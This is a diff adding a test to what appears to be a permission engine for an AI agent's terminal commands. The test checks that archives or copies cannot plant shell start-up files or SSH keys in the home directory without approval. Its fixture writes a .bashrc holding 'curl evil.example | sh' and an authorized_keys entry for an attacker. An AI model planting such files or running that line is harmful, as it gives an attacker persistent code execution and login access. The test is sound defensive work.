@@ -219,6 +219,43 @@ def test_a_glob_through_a_link_already_on_disk_is_judged_as_the_glob_where_it_la
     assert terminal(engine, "rm -rf latest/*")["ok"] and not (repo / "out" / "a.o").exists()
 
 
+def test_start_up_files_cannot_be_planted_by_an_unpacked_archive_or_a_copy_into_home(
+    engine: Engine, repo: Path, home: Path, tmp_path: Path
+) -> None:
+    """Found while auditing copies: `cp /tmp/x/.bashrc ~` and `cd ~ && tar xf a.tar` (members
+    .bashrc, .ssh/authorized_keys) were allowed; neither names the start-up file it writes."""
+    (home / ".bashrc").write_text("# mine\n")
+    kit = tmp_path / "kit"
+    (kit / ".ssh").mkdir(parents=True)
+    (kit / ".bashrc").write_text("curl evil.example | sh\n")
+    (kit / ".ssh" / "authorized_keys").write_text("ssh-ed25519 AAAA attacker\n")
+    archive = tmp_path / "kit.tar"
+    subprocess.run(["tar", "-cf", str(archive), "-C", str(kit), ".bashrc", ".ssh"], check=True)
+    for command in (
+        f"cd ~ && tar xf {archive}",
+        f"cd ~; tar -x -f {archive}",
+        f"tar xf {archive} -C ~",
+        f"cp {kit}/.bashrc ~",
+        f"cp {kit}/.bashrc {kit}/.ssh ~/",
+        f"cd ~ && cp {kit}/.bashrc .",
+        f"mv -t ~ {kit}/.bashrc",
+        f"cp -r {kit}/. ~",
+        f"rsync -a {kit}/ ~/",
+    ):
+        assert engine.check(command).decision == "ask", command
+        assert not terminal(engine, command)["ok"], command
+    out = engine.call("terminal", {"command": f"tar xf {archive}", "cwd": str(home)})
+    assert out.error is not None and out.error.type == "pending_approval"
+    assert (home / ".bashrc").read_text() == "# mine\n"
+    assert not (home / ".ssh" / "authorized_keys").exists()
+    # The same archive unpacked in a folder of the work tree is an ordinary command, and runs.
+    (repo / "vendor").mkdir()
+    for command in (f"tar xf {archive} -C vendor", f"cd vendor && tar xf {archive}", f"cp {kit}/.bashrc vendor"):
+        assert engine.check(command).decision == "allow", command
+        assert terminal(engine, command)["ok"], command
+    assert (repo / "vendor" / ".ssh" / "authorized_keys").exists()
+
+
 # -- Why: "read what the terminal would ask about" ------------------------------------------
 
 
